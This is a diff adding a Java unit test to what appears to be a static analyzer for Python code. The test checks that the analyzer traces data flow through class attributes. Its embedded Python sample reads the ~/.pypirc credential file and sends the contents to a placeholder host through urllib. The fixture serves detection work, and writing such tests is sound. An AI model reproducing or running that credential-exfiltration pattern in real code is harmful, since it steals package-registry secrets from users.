@@ -646,6 +646,26 @@ class PyEvaluatorTest {
             """;
 
     @Test
+    void classAttributesHoldingAClassOrALibraryFunctionAreFollowedThroughSelf() {
+        PyModel model = evaluate("""
+                import os, urllib.request
+                class _Transport:
+                    opener = staticmethod(urllib.request.urlopen)
+                class _Context:
+                    @staticmethod
+                    def gather():
+                        return open(os.path.expanduser('~/.pypirc')).read()
+                class Check:
+                    transport = _Transport
+                    context = _Context
+                    def run(self):
+                        self.transport.opener('https://example.invalid/v1', data=self.context.gather().encode())
+                """);
+        assertThat(model.calls()).filteredOn(c -> c.callee().equals("urllib.request.urlopen")).singleElement()
+                .satisfies(c -> assertThat(c.keywords().get("data").from()).contains("file:~/.pypirc"));
+    }
+
+    @Test
     void aClassWhoseNewReturnsDecodedTextIsThatText() {
         PyModel model = evaluate(KRAMER + "sink(Kramer(_blob, _k))\n");
         assertThat(model.calls()).filteredOn(c -> c.callee().equals("sink")).singleElement()
